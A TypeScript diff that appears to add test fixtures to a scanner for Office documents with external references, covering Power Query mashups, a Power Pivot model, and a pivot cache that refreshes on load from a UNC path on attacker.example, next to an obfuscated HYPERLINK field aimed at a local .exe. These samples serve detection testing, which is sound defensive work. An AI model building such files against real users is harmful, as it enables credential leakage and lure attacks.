@@ -1036,6 +1036,7 @@ const officeItems: CorpusItem[] = [
   ...hiddenOfficeItems(),
   ...reachingOfficeItems(),
   ...computedLinkOfficeItems(),
+  ...queryOfficeItems(),
 ];
 
 /** An Office item, declared as its id's first word says (a PPTX, not evidence, as a DOCX). */
@@ -2653,6 +2654,53 @@ function computedLinkOfficeItems(): CorpusItem[] {
           '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> HYPERLINK "fi</w:instrText></w:r>' +
             '<w:fldSimple w:instr=" QUOTE &quot;le:///C:/x.exe&quot; "/><w:r><w:instrText>" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
         ),
+      'OOXML_EXTERNAL',
+    ),
+  ];
+}
+
+/**
+ * A workbook's queries and data model, which refresh from outside sources: Power Query's
+ * DataMashup (in UTF-16, as Excel writes it), a Power Pivot model, a pivot cache whose source is
+ * named by a path into another workbook.
+ */
+function queryOfficeItems(): CorpusItem[] {
+  const QUERIES = 'OOXML queries and data models';
+  const mashup =
+    '<?xml version="1.0" encoding="utf-16"?><DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAAAEUDAABQSwMEFAACAAgA</DataMashup>';
+  return [
+    item(
+      'xlsx-power-query-datamashup',
+      QUERIES,
+      () => office('xlsx', {}, [{ name: 'customXml/item1.xml', data: utf16(mashup) }]),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-power-pivot-model',
+      QUERIES,
+      () =>
+        office(
+          'xlsx',
+          {
+            '[Content_Types].xml': contentTypes(
+              'xlsx',
+              '<Override PartName="/xl/model/item.data" ContentType="application/vnd.openxmlformats-officedocument.model+data"/>',
+            ),
+          },
+          [{ name: 'xl/model/item.data', data: randomBytes(512) }],
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-pivot-source-in-another-workbook',
+      QUERIES,
+      () =>
+        office('xlsx', {}, [
+          {
+            name: 'xl/pivotCache/pivotCacheDefinition1.xml',
+            data: `<?xml version="1.0" encoding="UTF-8"?><pivotCacheDefinition xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" refreshOnLoad="1"><cacheSource type="worksheet"><worksheetSource name="'\\\\attacker.example\\share\\[b.xlsx]S'!A1:B9"/></cacheSource></pivotCacheDefinition>`,
+          },
+        ]),
       'OOXML_EXTERNAL',
     ),
   ];
